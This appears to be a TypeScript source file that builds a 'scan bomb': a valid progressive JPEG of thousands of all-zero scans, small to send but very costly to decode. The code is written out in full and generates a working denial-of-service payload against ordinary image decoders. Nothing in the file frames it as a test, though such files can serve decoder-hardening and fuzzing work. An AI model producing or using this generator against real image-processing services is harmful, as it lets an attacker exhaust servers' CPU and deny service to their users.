// A valid progressive JPEG made of thousands of scans: tiny on the wire, expensive to decode,
// since a decoder visits every block of a component once per scan. Written from the JPEG
// specification (ITU T.81, Annex G): one DC scan for the three components, then for every
// component and every AC coefficient its own spectral-selection scan with successive
// approximation from bit 13 down to 0. All coefficients are zero, so each AC scan is a few
// end-of-band runs: 3 x 63 x 14 + 1 = 2647 scans for about 100 KB at 3000 x 3000.

class BitWriter {
  private readonly bytes: number[] = [];
  private current = 0;
  private filled = 0;

  write(value: number, bits: number): void {
    for (let i = bits - 1; i >= 0; i--) {
      this.current = (this.current << 1) | ((value >> i) & 1);
      if (++this.filled === 8) this.flushByte();
    }
  }

  /** Pads with one-bits to a byte boundary, as scans end (T.81, F.1.2.3). */
  finish(): number[] {
    if (this.filled > 0) this.write(0xff, 8 - this.filled);
    return this.bytes.splice(0);
  }

  private flushByte(): void {
    this.bytes.push(this.current);
    // A 0xFF in entropy-coded data is followed by a stuffed zero byte.
    if (this.current === 0xff) this.bytes.push(0);
    this.current = 0;
    this.filled = 0;
  }
}

const segment = (marker: number, body: number[]) => [0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body];
const u16 = (v: number) => [v >> 8, v & 0xff];

/** End-of-band runs covering `blocks` blocks: symbol r<<4 (code r, 4 bits) then r extra bits. */
function eobRuns(blocks: number): number[] {
  const out = new BitWriter();
  for (let left = blocks; left > 0;) {
    const run = Math.min(left, 32767);
    const r = Math.floor(Math.log2(run));
    out.write(r, 4);
    out.write(run - (1 << r), r);
    left -= run;
  }
  return out.finish();
}

export function jpegScanBomb(width: number, height: number): { jpeg: Buffer; scans: number } {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const components = [1, 2, 3];
  const parts: number[][] = [[0xff, 0xd8]];
  parts.push(segment(0xdb, [0x00, ...Array(64).fill(1)]));
  // SOF2: progressive, 8-bit, three components without subsampling, quantization table 0.
  parts.push(segment(0xc2, [8, ...u16(height), ...u16(width), 3, ...components.flatMap((c) => [c, 0x11, 0])]));
  // DC table 0: one 1-bit code for category 0. AC table 0: EOB, EOB2 ... EOB16384 as 4-bit codes.
  parts.push(segment(0xc4, [0x00, 1, ...Array(15).fill(0), 0x00]));
  parts.push(segment(0xc4, [0x10, 0, 0, 0, 15, ...Array(12).fill(0), ...Array.from({ length: 15 }, (_, r) => r << 4)]));
  let scans = 0;
  const scan = (ids: number[], ss: number, se: number, ah: number, al: number, data: number[]) => {
    parts.push(segment(0xda, [ids.length, ...ids.flatMap((c) => [c, 0x00]), ss, se, (ah << 4) | al]), data);
    scans++;
  };
  // DC first scan, interleaved: every block's DC difference is category 0.
  const dc = new BitWriter();
  for (let i = 0; i < blocks * components.length; i++) dc.write(0, 1);
  scan(components, 0, 0, 0, 0, dc.finish());
  const runs = eobRuns(blocks);
  for (const c of components) {
    for (let k = 1; k < 64; k++) {
      scan([c], k, k, 0, 13, runs);
      for (let ah = 13; ah > 0; ah--) scan([c], k, k, ah, ah - 1, runs);
    }
  }
  parts.push([0xff, 0xd9]);
  return { jpeg: Buffer.from(parts.flat()), scans };
}
